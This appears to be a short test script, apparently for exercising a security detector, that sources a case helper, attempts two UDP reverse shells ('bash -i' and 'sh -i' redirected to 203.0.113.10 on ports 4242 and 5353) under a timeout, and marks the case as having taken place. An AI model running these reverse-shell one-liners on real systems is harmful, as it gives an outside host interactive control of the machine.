#!/bin/sh
. /opt/case/case.sh

timeout 2 bash -c 'bash -i >&/dev/udp/203.0.113.10/4242 0>&1' || true
timeout 2 bash -c 'exec 4<>/dev/udp/203.0.113.10/5353; echo hello >&4; sh -i <&4 >&4 2>&4' || true
took_place
